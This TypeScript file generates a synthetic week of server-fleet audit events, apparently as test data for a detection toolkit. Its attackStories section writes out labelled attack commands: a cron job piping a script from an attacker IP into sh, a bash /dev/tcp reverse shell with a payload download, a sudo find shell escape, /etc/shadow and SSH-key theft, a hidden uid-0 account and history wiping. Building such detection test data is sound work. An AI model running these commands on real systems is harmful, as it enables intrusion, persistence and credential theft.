/**
 * Generates a realistic fleet week as a timeline of typed actions (timeline.ts).
 *
 * Deterministic: the same options (seed included) give the same timeline. Every
 * random draw comes from one seeded generator, forked per host and day, so
 * changing the number of hosts does not reshuffle the stories.
 *
 * Normal work: admins update packages, restart services and read logs;
 * developers deploy; DBAs look after databases; CI logs in with a key to deploy;
 * cron runs; the internet knocks on the bastion. Attack stories (`STORIES`) are
 * woven in on fixed days at night, each action labelled with its story.
 */
import { documentId } from '../../schema';
import { AuditkitError, createRng, type Rng } from '../../core';
import {
  compareActions,
  type AccountOp, type AgentCounters, type HostRole, type Identity, type SimAction, type SimFleet, type SimHost, type SimSession,
  type SimTimeline, type SimUser, type StoryName,
} from './timeline';

export interface SimulateOptions {
  readonly seed?: number | string;
  /** Number of hosts (default 20). */
  readonly hosts?: number;
  /** Number of days (default 7). */
  readonly days?: number;
  /** First instant (UTC, ISO or epoch ms). Default: 2026-11-09T00:00:00+08:00 (a Monday in Asia/Shanghai). */
  readonly start?: string | number;
  /** Multiplies the amount of normal work (default 1: ~30 000 documents for 20 hosts × 7 days). */
  readonly intensity?: number;
  /** Include the attack stories (default true). */
  readonly stories?: boolean;
  /** Minutes between collector heartbeats (default 30). */
  readonly heartbeatMinutes?: number;
  /** Working hours are in this fixed UTC offset (default +8). */
  readonly utcOffsetHours?: number;
}

export const DEFAULT_SIM_START = '2026-11-08T16:00:00.000Z';
export const ATTACKER_IPS = ['203.0.113.45', '198.51.100.23'] as const;
const C2 = ATTACKER_IPS[1];
const BRUTE = ATTACKER_IPS[0];
const ROOT: Identity = { name: 'root', uid: 0 };
const WWW: Identity = { name: 'www-data', uid: 33 };
const HOUR = 3_600_000;
const DAY = 24 * HOUR;

const ROLE_CYCLE: readonly HostRole[] = ['web', 'app', 'db', 'web', 'app', 'cache', 'web', 'app', 'db', 'bastion', 'web', 'app', 'ci', 'cache', 'app', 'web', 'db', 'mon', 'app', 'web'];
const SERVICES: Readonly<Record<HostRole, readonly string[]>> = {
  web: ['nginx', 'php8.2-fpm'],
  app: ['app', 'docker'],
  db: ['postgresql', 'pgbouncer'],
  cache: ['redis-server'],
  bastion: ['ssh'],
  ci: ['jenkins', 'docker'],
  mon: ['prometheus', 'grafana-server'],
};

export function buildFleet(opts: SimulateOptions = {}): SimFleet {
  const seed = opts.seed ?? 42;
  const n = opts.hosts ?? 20;
  const days = opts.days ?? 7;
  const start = typeof opts.start === 'number' ? opts.start : Date.parse(opts.start ?? DEFAULT_SIM_START);
  if (!Number.isFinite(start)) throw new AuditkitError('AK_USAGE', `simulator start is not a date: ${String(opts.start)}`);
  const counters = new Map<HostRole, number>();
  const hosts: SimHost[] = [];
  for (let i = 0; i < n; i++) {
    const role = ROLE_CYCLE[i % ROLE_CYCLE.length] as HostRole;
    const k = (counters.get(role) ?? 0) + 1;
    counters.set(role, k);
    const name = `${role}-${String(k).padStart(2, '0')}`;
    const bookworm = i % 4 !== 3;
    hosts.push({
      name,
      id: documentId('sim-host', seed, name).replace(/[-_]/g, 'a').toLowerCase().slice(0, 16).padEnd(32, '0'),
      ip: `10.10.${Math.floor(i / 200)}.${(i % 200) + 11}`,
      role,
      os: bookworm
        ? { name: 'Debian GNU/Linux', version: '12', family: 'debian', kernel: '6.1.0-27-amd64' }
        : { name: 'Ubuntu', version: '22.04', family: 'debian', kernel: '5.15.0-125-generic' },
      services: SERVICES[role],
    });
  }
  const person = (name: string, uid: number, role: SimUser['role'], ipIdx: number): SimUser => ({
    name, uid, role, home: `/home/${name}`, sourceIps: [`10.20.0.${ipIdx}`, `10.8.0.${ipIdx + 100}`],
  });
  const ci = hosts.find((h) => h.role === 'ci');
  const users: SimUser[] = [
    person('alice', 1001, 'admin', 11), person('bob', 1002, 'admin', 12), person('chen.wei', 1003, 'admin', 13), person('li.na', 1004, 'admin', 14),
    person('mia.zhang', 1101, 'developer', 21), person('tom', 1102, 'developer', 22), person('raj', 1103, 'developer', 23), person('zhou.jie', 1104, 'developer', 24), person('sara', 1105, 'developer', 25),
    person('olga', 1201, 'dba', 31), person('wang.lei', 1202, 'dba', 32),
    { name: 'deploy', uid: 1100, role: 'service', home: '/home/deploy', sourceIps: [ci?.ip ?? '10.10.0.23'] },
  ];
  return { hosts, users, attackerIps: [...ATTACKER_IPS], start, end: start + days * DAY, seed };
}

type CmdSpec = readonly [line: string, sudo?: boolean, exit?: number];

const GENERIC: readonly CmdSpec[] = [
  ['ls -la'], ['df -h'], ['free -m'], ['uptime'], ['top -b -n 1'], ['ps aux | grep java'], ['ss -tlnp'], ['cat /etc/os-release'], ['w'], ['history'],
  ['ls /var/log'], ['du -sh /var/log/*', true], ['ip addr'], ['hostnamectl'], ['vim notes.txt'], ['cat config.yml'], ['grep -r TODO .', false, 1],
];
const ADMIN: readonly CmdSpec[] = [
  ['apt-get update', true], ['apt-get upgrade -y', true], ['apt list --upgradable'], ['apt-get install -y htop', true],
  ['systemctl status %svc'], ['systemctl restart %svc', true], ['journalctl -u %svc --since "1 hour ago"', true], ['tail -n 200 /var/log/syslog', true],
  ['less /var/log/auth.log', true], ['grep -i error /var/log/syslog', true, 1], ['needrestart -r l', true], ['reboot', true],
];
const DEV: readonly CmdSpec[] = [
  ['cd /srv/app'], ['git pull'], ['git log --oneline -5'], ['./deploy.sh v1.%n', false], ['docker ps'], ['docker compose logs --tail 100 app'], ['systemctl restart app', true],
  ['tail -f /var/log/app/app.log'], ['curl -s localhost:8080/health'], ['npm ci', false, 0], ['make test', false, 2],
];
const DBA: readonly CmdSpec[] = [
  ['psql -U postgres -c "select count(*) from pg_stat_activity"'], ['pg_dump -Fc appdb -f /backup/appdb.dump'], ['systemctl restart pgbouncer', true],
  ['tail -n 100 /var/log/postgresql/postgresql-15-main.log', true], ['vacuumdb --all --analyze-only', false], ['df -h /var/lib/postgresql'],
];
const DEPLOY: readonly CmdSpec[] = [['cd /srv/app'], ['git fetch --tags'], ['./deploy.sh v1.%n'], ['systemctl restart app', true], ['curl -s localhost:8080/health']];

const BUILTINS = new Set(['cd', 'history', 'unset', 'export', 'exit', 'source', 'alias', 'echo', 'ulimit', 'umask']);
const SBIN = new Set(['useradd', 'usermod', 'userdel', 'groupadd', 'chpasswd', 'reboot', 'needrestart', 'logrotate', 'ip', 'ss']);

/** Split a command line into argv, honouring simple quotes (what the shell would pass). */
export function splitArgs(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quote: string | undefined;
  let has = false;
  for (const ch of line) {
    if (quote) {
      if (ch === quote) quote = undefined;
      else cur += ch;
    } else if (ch === '"' || ch === "'") {
      quote = ch;
      has = true;
    } else if (ch === ' ' || ch === '\t') {
      if (has || cur) out.push(cur);
      cur = '';
      has = false;
    } else {
      cur += ch;
    }
  }
  if (has || cur) out.push(cur);
  return out;
}

function executableOf(prog: string): string {
  if (prog.startsWith('/') || prog.startsWith('./')) return prog;
  return SBIN.has(prog) ? `/usr/sbin/${prog}` : `/usr/bin/${prog}`;
}

class Builder {
  actions: SimAction[] = [];
  private seqNo = 0;
  private readonly pids = new Map<string, number>();
  private readonly auditSessions = new Map<string, number>();
  private readonly history = new Map<string, number>();
  private readonly ttys = new Map<string, number>();

  constructor(readonly fleet: SimFleet, readonly rng: Rng) {}

  seq(): number {
    return this.seqNo++;
  }

  pid(host: string): number {
    const p = (this.pids.get(host) ?? 900 + this.rng.int(0, 500)) + this.rng.int(1, 37);
    this.pids.set(host, p > 4_000_000 ? 1000 : p);
    return p;
  }

  host(name: string): SimHost {
    const h = this.fleet.hosts.find((x) => x.name === name);
    if (!h) throw new AuditkitError('AK_INTERNAL', `no simulated host ${name}`);
    return h;
  }

  login(host: string, t: number, user: Identity, sourceIp: string, method: 'password' | 'publickey', story?: StoryName): SimSession {
    const ses = (this.auditSessions.get(host) ?? 0) + 1;
    this.auditSessions.set(host, ses);
    const minor = ((this.ttys.get(host) ?? -1) + 1) % 8;
    this.ttys.set(host, minor);
    const session: SimSession = {
      id: documentId('sim-session', this.fleet.seed, host, ses).slice(0, 16),
      host,
      user: user.name,
      uid: user.uid,
      sourceIp,
      sourcePort: this.rng.int(32768, 60999),
      tty: `pts/${minor}`,
      ttyMinor: minor,
      leaderPid: this.pid(host),
      shellId: documentId('sim-shell', this.fleet.seed, host, ses).slice(0, 12),
      auditSession: ses,
    };
    this.actions.push({
      kind: 'login', t, seq: this.seq(), host, account: user.name, uid: user.uid, sourceIp, sourcePort: session.sourcePort, outcome: 'success', method, session,
      ...(story ? { story } : {}),
    });
    return session;
  }

  failedLogin(host: string, t: number, account: string, uid: number | undefined, sourceIp: string, story?: StoryName): void {
    this.actions.push({
      kind: 'login', t, seq: this.seq(), host, account, ...(uid !== undefined ? { uid } : {}), sourceIp, sourcePort: this.rng.int(32768, 60999),
      outcome: 'failure', method: 'password', ...(story ? { story } : {}),
    });
  }

  logout(s: SimSession, t: number, story?: StoryName): void {
    this.actions.push({ kind: 'logout', t, seq: this.seq(), host: s.host, session: s, ...(story ? { story } : {}) });
  }

  /**
   * A command typed at the session's bash prompt: the hook sees the line, auditd
   * sees each program of the pipeline (builtins start no process), and `sudo`
   * adds its own record plus the target program running as root.
   */
  typed(s: SimSession, t: number, line: string, opts: { cwd: string; exit?: number; story?: StoryName; hooked?: boolean; runAs?: Identity } = { cwd: '/' }): number {
    const runAs = opts.runAs ?? { name: s.user, uid: s.uid };
    const login: Identity = { name: s.user, uid: s.uid };
    const hooked = opts.hooked ?? true;
    const story = opts.story;
    const hist = (this.history.get(s.shellId) ?? 0) + 1;
    this.history.set(s.shellId, hist);
    const shellPid = s.leaderPid;
    const segments = line.split(/\s*\|\s*/).filter((x) => x.length > 0);
    const first = splitArgs(segments[0] ?? line);
    const exit = opts.exit ?? 0;
    const isSudo = first[0] === 'sudo';
    // The hook's view: one record for the whole line, as the login user sees it.
    const lineArgs = splitArgs(line);
    const mainPid = this.pid(s.host);
    if (hooked) {
      this.actions.push({
        kind: 'exec', t, seq: this.seq(), host: s.host, session: s, commandLine: line, args: lineArgs, executable: executableOf(first[0] ?? 'sh'),
        cwd: opts.cwd, exitCode: exit, pid: mainPid, ppid: shellPid, runAs, loginUser: login, hooked: true, historyNumber: hist, tty: s.tty,
        ...(story ? { story } : {}),
      });
    }
    let tt = t;
    for (const seg of segments) {
      const argv = splitArgs(seg);
      const prog = argv[0];
      if (!prog || BUILTINS.has(prog) || prog.startsWith('(')) continue;
      if (prog === 'sudo') {
        const target = ROOT;
        const inner = argv.slice(1).filter((a, i) => !(i === 0 && a.startsWith('-')));
        const sudoPid = this.pid(s.host);
        this.actions.push({ kind: 'sudo', t: tt, seq: this.seq(), host: s.host, session: s, target, command: inner.join(' '), cwd: opts.cwd, outcome: 'success', pid: sudoPid, ...(story ? { story } : {}) });
        if (inner.length > 0 && inner[0] !== '-l') {
          this.actions.push({
            kind: 'exec', t: tt + 5, seq: this.seq(), host: s.host, session: s, commandLine: inner.join(' '), args: inner, executable: executableOf(inner[0] ?? 'sh'),
            cwd: opts.cwd, exitCode: exit, pid: this.pid(s.host), ppid: sudoPid, runAs: target, loginUser: login, hooked: false, tty: s.tty, ...(story ? { story } : {}),
          });
        }
      } else {
        this.actions.push({
          kind: 'exec', t: tt + 2, seq: this.seq(), host: s.host, session: s, commandLine: seg, args: argv, executable: executableOf(prog),
          cwd: opts.cwd, exitCode: exit, pid: this.pid(s.host), ppid: shellPid, runAs, loginUser: login, hooked: false, tty: s.tty, ...(story ? { story } : {}),
        });
      }
      tt += 3;
    }
    void isSudo;
    return mainPid;
  }

  /** A process only auditd sees (a non-interactive shell, a child, a daemon). */
  exec(host: string, t: number, line: string, runAs: Identity, loginUser: Identity | undefined, ppid: number, cwd: string, opts: { story?: StoryName; session?: SimSession; exit?: number } = {}): number {
    const argv = splitArgs(line);
    const pid = this.pid(host);
    this.actions.push({
      kind: 'exec', t, seq: this.seq(), host, commandLine: line, args: argv, executable: executableOf(argv[0] ?? 'sh'), cwd, exitCode: opts.exit ?? 0, pid, ppid, runAs,
      ...(loginUser ? { loginUser } : {}), hooked: false, ...(opts.session ? { session: opts.session, tty: opts.session.tty } : {}), ...(opts.story ? { story: opts.story } : {}),
    });
    return pid;
  }

  account(s: SimSession, t: number, op: AccountOp, actor: Identity, target: Identity, executable: string, opts: { group?: Identity; story?: StoryName } = {}): void {
    this.actions.push({
      kind: 'account', t, seq: this.seq(), host: s.host, op, session: s, actor, target, executable, pid: this.pid(s.host),
      ...(opts.group ? { group: opts.group } : {}), ...(opts.story ? { story: opts.story } : {}),
    });
  }
}

function fill(line: string, host: SimHost, rng: Rng): string {
  return line.replace('%svc', rng.pick(host.services)).replace('%n', String(rng.int(10, 60)));
}

function eligible(u: SimUser, h: SimHost): boolean {
  switch (u.role) {
    case 'admin': return true;
    case 'developer': return h.role === 'web' || h.role === 'app' || h.role === 'ci';
    case 'dba': return h.role === 'db' || h.role === 'bastion';
    case 'service': return h.role === 'app' || h.role === 'web';
  }
}

function menuFor(u: SimUser, h: SimHost): ReadonlyArray<readonly [CmdSpec, number]> {
  const w = (list: readonly CmdSpec[], weight: number): Array<readonly [CmdSpec, number]> => list.map((c) => [c, weight] as const);
  switch (u.role) {
    case 'admin': return [...w(GENERIC, 2), ...w(ADMIN, 3), ...(h.role === 'db' ? w(DBA, 1) : [])];
    case 'developer': return [...w(GENERIC, 2), ...w(DEV, 4)];
    case 'dba': return [...w(GENERIC, 2), ...w(DBA, 4)];
    case 'service': return w(DEPLOY, 1);
  }
}

/** Start of local working day `d` (09:00 at the fleet's UTC offset). */
function workStart(fleet: SimFleet, d: number, offsetH: number): number {
  return fleet.start + d * DAY + (9 - 0) * HOUR - (offsetH - 8) * HOUR;
}

function normalWork(b: Builder, opts: Required<Pick<SimulateOptions, 'intensity' | 'utcOffsetHours'>>, days: number): void {
  const { fleet } = b;
  for (const host of fleet.hosts) {
    const team = regulars(fleet, host, b.rng.fork(`${host.name}/team`));
    for (let d = 0; d < days; d++) {
      const rng = b.rng.fork(`${host.name}/${d}`);
      const weekend = d % 7 >= 5;
      let sessions = Math.round(rng.around((weekend ? 0.7 : 3) * opts.intensity, 1.5 * Math.sqrt(opts.intensity), 0, 40 * opts.intensity));
      // The first day, every regular of the host logs in (and uses sudo where their work does):
      // the fleet's usual user/host pairs exist before the rest of the week, as on a fleet
      // with a past, so first-seen rules learn them and stay quiet on normal traffic.
      if (d === 0) sessions = Math.max(sessions, team.length);
      for (let k = 0; k < sessions; k++) {
        const intro = d === 0 && k < team.length;
        const u = intro ? (team[k] as SimUser) : rng.pick(team);
        const offHours = !intro && rng.chance(0.1);
        const t0 = workStart(fleet, d, opts.utcOffsetHours) + (offHours ? rng.int(11, 14) * HOUR : 0) + rng.int(0, 9.5 * HOUR);
        const ip = u.role === 'service' ? (u.sourceIps[0] as string) : rng.weighted([[u.sourceIps[0] as string, 4], [u.sourceIps[1] as string, 1]]);
        let t = t0;
        if (u.role !== 'service' && rng.chance(0.05)) {
          b.failedLogin(host.name, t, u.name, u.uid, ip);
          t += rng.int(3000, 9000);
        }
        const s = b.login(host.name, t, u, ip, u.role === 'service' ? 'publickey' : rng.weighted([['publickey', 3], ['password', 1]]));
        let cwd = u.home;
        const n = u.role === 'service' ? DEPLOY.length : rng.int(4, 18);
        const menu = menuFor(u, host);
        const sudoMenu = menu.filter(([c]) => c[1] === true && !c[0].startsWith('reboot'));
        for (let i = 0; i < n; i++) {
          t += rng.int(4, 140) * 1000;
          const first = intro && i === 0 && u.role !== 'service' && sudoMenu.length > 0;
          const spec = u.role === 'service' ? (DEPLOY[i] as CmdSpec) : first ? rng.weighted(sudoMenu) : rng.weighted(menu);
          const [raw, sudo, exit] = spec;
          const line = first || (sudo && u.role !== 'developer') || (sudo && rng.chance(0.5)) ? `sudo ${fill(raw, host, rng)}` : fill(raw, host, rng);
          const failed = sudo && !line.startsWith('sudo');
          if (line.startsWith('reboot') || line === 'sudo reboot') continue; // a real reboot would end the week's story; keep it out
          b.typed(s, t, line, { cwd, exit: failed ? 1 : (exit ?? 0) });
          if (line.startsWith('cd ')) cwd = line.slice(3).trim();
        }
        b.logout(s, t + rng.int(10, 600) * 1000);
      }
      // cron: hourly run-parts, daily logrotate; the internet knocking on the bastion.
      for (let h = 0; h < 24; h++) b.exec(host.name, fleet.start + d * DAY + h * HOUR + 17 * 60_000, 'run-parts --report /etc/cron.hourly', ROOT, undefined, 1, '/');
      b.exec(host.name, fleet.start + d * DAY + 22 * HOUR + 25 * 60_000, 'logrotate /etc/logrotate.conf', ROOT, undefined, 1, '/');
      if (host.role === 'bastion') {
        const knocks = rng.int(2, 6);
        for (let i = 0; i < knocks; i++) {
          const ip = `45.${rng.int(10, 250)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
          b.failedLogin(host.name, fleet.start + d * DAY + rng.int(0, DAY - 1), rng.pick(['root', 'admin', 'ubuntu', 'test']), undefined, ip);
        }
      }
    }
  }
}

/** Most regulars a host has. */
const TEAM = 4;

/**
 * The people who usually work on a host: up to TEAM of those eligible, fixed for the week
 * (plus alice where she does the week's account work: the first bastion and ci hosts).
 */
function regulars(fleet: SimFleet, host: SimHost, rng: Rng): SimUser[] {
  const candidates = fleet.users.filter((u) => eligible(u, host));
  const keyed = candidates.map((u) => ({ u, k: rng.next() })).sort((x, y) => x.k - y.k);
  const team = keyed.slice(0, TEAM).map((x) => x.u);
  const alice = fleet.users.find((u) => u.name === 'alice');
  const accountHost = [fleet.hosts.find((h) => h.role === 'bastion') ?? fleet.hosts[0], fleet.hosts.find((h) => h.role === 'ci') ?? fleet.hosts[0]].includes(host);
  if (alice && accountHost && !team.includes(alice)) team.push(alice);
  return team;
}

/** Legitimate account work an auditor expects to see listed (and not alarmed on). */
function accountWork(b: Builder, days: number, offsetH: number): void {
  const { fleet } = b;
  const bastion = fleet.hosts.find((h) => h.role === 'bastion') ?? fleet.hosts[0];
  const ci = fleet.hosts.find((h) => h.role === 'ci') ?? fleet.hosts[0];
  const alice = fleet.users.find((u) => u.name === 'alice');
  if (!bastion || !ci || !alice) return;
  const d = Math.min(1, days - 1);
  let t = workStart(fleet, d, offsetH) + 2 * HOUR;
  const s = b.login(bastion.name, t, alice, alice.sourceIps[0] as string, 'publickey');
  const newbie: Identity = { name: 'wang.fang', uid: 1106 };
  t += 30_000;
  b.typed(s, t, `sudo useradd -m -s /bin/bash -c "Wang Fang" ${newbie.name}`, { cwd: alice.home });
  b.account(s, t + 200, 'add-user', ROOT, newbie, '/usr/sbin/useradd');
  t += 40_000;
  b.typed(s, t, `sudo usermod -aG sudo ${newbie.name}`, { cwd: alice.home });
  b.account(s, t + 200, 'modify-user', ROOT, newbie, '/usr/sbin/usermod', { group: { name: 'sudo', uid: 27 } });
  t += 30_000;
  b.typed(s, t, `sudo passwd -e ${newbie.name}`, { cwd: alice.home });
  b.account(s, t + 200, 'change-password', ROOT, newbie, '/usr/bin/passwd');
  b.logout(s, t + 60_000);
  const d2 = Math.min(2, days - 1);
  let t2 = workStart(fleet, d2, offsetH) + 5 * HOUR;
  const s2 = b.login(ci.name, t2, alice, alice.sourceIps[1] as string, 'publickey');
  t2 += 20_000;
  b.typed(s2, t2, 'sudo groupadd deploy-team', { cwd: alice.home });
  b.account(s2, t2 + 200, 'add-group', ROOT, { name: 'deploy-team', uid: 1500 }, '/usr/sbin/groupadd', { group: { name: 'deploy-team', uid: 1500 } });
  b.logout(s2, t2 + 90_000);
}

function hostOfRole(fleet: SimFleet, role: HostRole, nth: number): SimHost {
  const list = fleet.hosts.filter((h) => h.role === role);
  const pool = list.length > 0 ? list : fleet.hosts;
  return pool[Math.min(nth, pool.length - 1)] as SimHost;
}

function attackStories(b: Builder, days: number, offsetH: number): void {
  const { fleet, rng } = b;
  const local = (d: number, h: number, m: number): number => fleet.start + Math.min(d, days - 1) * DAY + (h * 60 + m) * 60_000 - (offsetH - 8) * HOUR;
  const deploy: Identity = { name: 'deploy', uid: 1100 };

  // 1. Password guessing from one address, then a successful login from it.
  const web = hostOfRole(fleet, 'web', 1);
  let t = local(3, 2, 13);
  const guesses = ['root', 'admin', 'test', 'oracle', 'ubuntu', 'postgres', 'deploy'];
  for (let i = 0; i < 42; i++) {
    const acct = guesses[i % guesses.length] as string;
    b.failedLogin(web.name, t, acct, acct === 'deploy' ? deploy.uid : acct === 'root' ? 0 : undefined, BRUTE, 'ssh-bruteforce');
    t += rng.int(2, 15) * 1000;
  }
  t += 20_000;
  const s = b.login(web.name, t, deploy, BRUTE, 'password', 'ssh-bruteforce');
  const cwd = '/home/deploy';
  for (const line of ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'w', 'sudo -l']) {
    t += rng.int(3, 20) * 1000;
    b.typed(s, t, line, { cwd, story: 'ssh-bruteforce', exit: line === 'sudo -l' ? 1 : 0 });
  }
  // 6. Cron persistence from the same session.
  t += 45_000;
  b.typed(s, t, '(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://198.51.100.23/p.sh | sh") | crontab -', { cwd, story: 'cron-persistence' });
  b.exec(web.name, t + 10, 'crontab -', deploy, deploy, s.leaderPid, cwd, { session: s, story: 'cron-persistence' });
  t += 12_000;
  b.typed(s, t, 'crontab -l', { cwd, story: 'cron-persistence' });
  // 4. History wiping before leaving.
  for (const line of ['unset HISTFILE', 'history -c', 'rm -f ~/.bash_history', 'ln -sf /dev/null ~/.bash_history']) {
    t += rng.int(2, 6) * 1000;
    b.typed(s, t, line, { cwd, story: 'history-wipe' });
  }
  b.logout(s, t + 5000, 'history-wipe');

  // 2. A developer's sudo rule abused into a root shell; 5. a second uid-0 account made from it.
  const app = hostOfRole(fleet, 'app', 1);
  const mia = fleet.users.find((u) => u.name === 'mia.zhang') as SimUser;
  let t2 = local(4, 23, 41);
  const s2 = b.login(app.name, t2, mia, mia.sourceIps[1] as string, 'publickey', 'sudo-shell');
  t2 += 15_000;
  b.typed(s2, t2, 'sudo -l', { cwd: mia.home, story: 'sudo-shell' });
  t2 += 20_000;
  b.typed(s2, t2, "sudo find /srv/app -name app.log -exec /bin/sh \\; -quit", { cwd: mia.home, story: 'sudo-shell' });
  const shPid = b.exec(app.name, t2 + 40, '/bin/sh', ROOT, mia, 0, mia.home, { session: s2, story: 'sudo-shell' });
  for (const line of ['id', 'cat /etc/shadow', 'tar czf /tmp/.s.tgz /etc/shadow /root/.ssh']) {
    t2 += rng.int(5, 25) * 1000;
    b.exec(app.name, t2, line, ROOT, mia, shPid, mia.home, { session: s2, story: 'sudo-shell' });
  }
  t2 += 30_000;
  const sysupdate: Identity = { name: 'sysupdate', uid: 0 };
  b.exec(app.name, t2, 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupdate', ROOT, mia, shPid, mia.home, { session: s2, story: 'uid0-account' });
  b.account(s2, t2 + 150, 'add-user', ROOT, sysupdate, '/usr/sbin/useradd', { story: 'uid0-account' });
  t2 += 20_000;
  b.exec(app.name, t2, 'chpasswd', ROOT, mia, shPid, mia.home, { session: s2, story: 'uid0-account' });
  b.account(s2, t2 + 150, 'change-password', ROOT, sysupdate, '/usr/sbin/chpasswd', { story: 'uid0-account' });
  b.logout(s2, t2 + 60_000, 'sudo-shell');

  // 3. A reverse shell out of the web server's PHP workers.
  const web2 = hostOfRole(fleet, 'web', 2);
  let t3 = local(5, 22, 40);
  const fpm = 700 + rng.int(0, 99);
  const bashPid = b.exec(web2.name, t3, `bash -c "bash -i >& /dev/tcp/${C2}/4444 0>&1"`, WWW, undefined, fpm, '/var/www/html', { story: 'reverse-shell' });
  for (const line of ['id', 'uname -a', `wget -q http://${C2}/lin.sh -O /tmp/.l`, 'chmod +x /tmp/.l', '/tmp/.l']) {
    t3 += rng.int(4, 30) * 1000;
    b.exec(web2.name, t3, line, WWW, undefined, bashPid, '/var/www/html', { story: 'reverse-shell' });
  }
}

/** Heartbeats every `minutes`, with counters that follow what the host produced. */
function heartbeats(b: Builder, minutes: number, silent: { host: string; from: number } | undefined, deadletterHost: string | undefined, days: number): void {
  const { fleet } = b;
  const perHost = new Map<string, number[]>();
  for (const a of b.actions) {
    const list = perHost.get(a.host) ?? [];
    list.push(a.t);
    perHost.set(a.host, list);
  }
  for (const host of fleet.hosts) {
    const times = (perHost.get(host.name) ?? []).sort((x, y) => x - y);
    const rng = b.rng.fork(`hb/${host.name}`);
    const agentId = documentId('sim-agent', fleet.seed, host.name).slice(0, 16);
    const pid = rng.int(400, 900);
    const bootOffset = rng.int(1, 50) * 60_000;
    let idx = 0;
    let received = 0;
    let deadlettered = 0;
    let failed = 0;
    for (let t = fleet.start + bootOffset; t < fleet.end; t += minutes * 60_000) {
      if (silent && host.name === silent.host && t >= silent.from) break;
      while (idx < times.length && (times[idx] as number) <= t) {
        idx++;
        received++;
      }
      if (host.name === deadletterHost) {
        const day = Math.floor((t - fleet.start) / DAY);
        if (day >= Math.max(0, days - 2) && t >= fleet.start + Math.max(0, days - 2) * DAY + 14 * HOUR) {
          deadlettered = 7;
          failed = 2;
        }
      }
      const counters: AgentCounters = {
        uptime_s: Math.floor((t - fleet.start) / 1000) + 86_400 * 3,
        received,
        parsed: received - failed,
        failed,
        sent: received - failed - deadlettered,
        duplicates: 0,
        deadlettered,
        dropped: 0,
        retries: host.name === deadletterHost && deadlettered > 0 ? 3 : 0,
        lost: 0,
        spool_bytes: 0,
        spool_records: 0,
        lag_ms: rng.int(50, 900),
      };
      b.actions.push({ kind: 'heartbeat', t, seq: b.seq(), host: host.name, counters, agentId, pid });
    }
  }
  if (deadletterHost) {
    const t0 = fleet.start + Math.max(0, days - 2) * DAY + 14 * HOUR + 7 * 60_000;
    for (let i = 0; i < 7; i++) {
      b.actions.push({
        kind: 'deadletter', t: t0 + i * 1000, seq: b.seq(), host: deadletterHost, stage: 'ship', reason: 'mapper_parsing_exception', status: 400,
        message: 'failed to parse field [process.exit_code] of type [long]: For input string: "abc"',
        original: JSON.stringify({ process: { command_line: `./job.sh ${i}`, exit_code: 'abc' } }),
      });
    }
    // Hook records cut by the syslog size limit (raw/shell.ts writes them): the reason and message the hook parser gives.
    for (let i = 0; i < 2; i++) {
      const seq = b.seq();
      b.actions.push({
        kind: 'deadletter', t: t0 + 60_000 + i * 1000, seq, host: deadletterHost, stage: 'parse', reason: 'SHELL_HOOK_JSON',
        message: 'hook record is not valid JSON (Unterminated string in JSON); a truncated syslog message? raise the syslog size limit',
        original: `{"v":1,"shell":"bash","host":"${deadletterHost}","sid":"${seq.toString(16)}","user":"deploy","cmd":"./job.sh --payload`,
      });
    }
  }
}

/** The silent host and the dead-lettering collector, for assertions. */
export interface SimIncidents {
  readonly silentHost?: { readonly host: string; readonly from: number };
  readonly deadletterHost?: string;
}

export function simulateTimeline(opts: SimulateOptions = {}): SimTimeline & { readonly incidents: SimIncidents } {
  const fleet = buildFleet(opts);
  const days = opts.days ?? 7;
  const offsetH = opts.utcOffsetHours ?? 8;
  const b = new Builder(fleet, createRng(fleet.seed));
  normalWork(b, { intensity: opts.intensity ?? 1, utcOffsetHours: offsetH }, days);
  if (opts.stories ?? true) {
    accountWork(b, days, offsetH);
    attackStories(b, days, offsetH);
  }
  // One host goes silent before the end (its collector stopped); one collector dead-letters.
  const silentHost = fleet.hosts.length > 2 ? hostOfRole(fleet, 'db', 9).name : undefined;
  const silent = silentHost ? { host: silentHost, from: fleet.end - Math.round(1.5 * DAY) } : undefined;
  if (silent) {
    b.actions = b.actions.filter((a) => !(a.host === silent.host && a.t >= silent.from));
  }
  const deadletterHost = fleet.hosts.length > 1 ? hostOfRole(fleet, 'app', 2).name : undefined;
  heartbeats(b, opts.heartbeatMinutes ?? 30, silent, deadletterHost, days);
  const actions = b.actions.filter((a) => a.t >= fleet.start && a.t < fleet.end).sort(compareActions);
  return { fleet, actions, incidents: { ...(silent ? { silentHost: silent } : {}), ...(deadletterHost ? { deadletterHost } : {}) } };
}
